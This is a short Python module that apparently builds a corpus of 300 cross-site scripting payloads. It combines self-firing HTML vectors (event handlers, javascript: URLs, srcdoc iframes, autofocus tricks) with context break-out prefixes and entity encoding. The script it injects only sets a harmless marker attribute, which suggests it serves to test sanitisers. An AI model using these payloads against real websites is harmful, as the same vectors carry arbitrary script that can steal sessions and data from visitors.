"""Three hundred ways to make a page run a script that came as text, from a grammar of tags, handlers and disguises."""

from itertools import cycle, islice

RUNS = "document.documentElement.setAttribute('data-ran','1')"
_CODED = "".join(f"&#{ord(c)};" for c in RUNS)
_SELF_STARTING = [
    "<img src=x onerror={js}>", "<img src=x onerror=\"{js}\">", "<svg onload={js}>", "<svg/onload={js}>", "<body onload={js}>",
    "<video><source onerror=\"{js}\"></video>", "<audio src=x onerror={js}>", "<details open ontoggle={js}>x</details>",
    "<iframe srcdoc=\"<script>parent.{js}</script>\"></iframe>", "<iframe src=\"javascript:parent.{js}\"></iframe>",
    "<object data=x onerror={js}></object>", "<input autofocus onfocus={js}>", "<select autofocus onfocus={js}></select>",
    "<textarea autofocus onfocus={js}></textarea>", "<style onload={js}></style>", "<link rel=stylesheet href=x onerror={js}>",
    "<script>{js}</script>", "<script src=\"data:text/javascript,{js}\"></script>", "<svg><script>{js}</script></svg>",
    "<math><mtext><img src=x onerror={js}></mtext></math>", "<svg><animate onbegin={js} attributeName=x dur=1s></svg>",
    "<svg><set onbegin={js} attributeName=x></svg>", "<embed src=\"javascript:{js}\">", "<meta http-equiv=refresh content=\"0;javascript:{js}\">",
    "<noscript><p title=\"</noscript><img src=x onerror={js}>\"></noscript>", "<a href=\"javascript:{js}\" autofocus onfocus={js}>x</a>",
    "<form><button formaction=\"javascript:{js}\" autofocus onfocus={js}>x</button></form>", "<p tabindex=1 autofocus onfocus={js}>x</p>",
    "<img srcset=x onerror={js}>", "<picture><source srcset=x><img src=x onerror={js}></picture>",
]  # fmt: skip
_BREAKING_OUT = [
    "{x}",
    '">{x}',
    "'>{x}",
    "</title>{x}",
    "</textarea>{x}",
    "</script>{x}",
    "-->{x}",
    "]]>{x}",
    "</style>{x}",
    '"/>{x}<p title="',
]


def payloads(count: int = 300) -> list[str]:
    """So many different payloads; every one runs RUNS where it is put into a page as it stands."""
    found: dict[str, None] = {}
    spellings = cycle([RUNS, RUNS, _CODED])
    for out in _BREAKING_OUT:
        for tag in _SELF_STARTING:
            js = next(spellings)
            js = RUNS if tag.startswith(("<script", "<svg><script", "<iframe", "<meta", "<embed")) else js
            found[out.format(x=tag.format(js=js))] = None
    return list(islice(found, count))
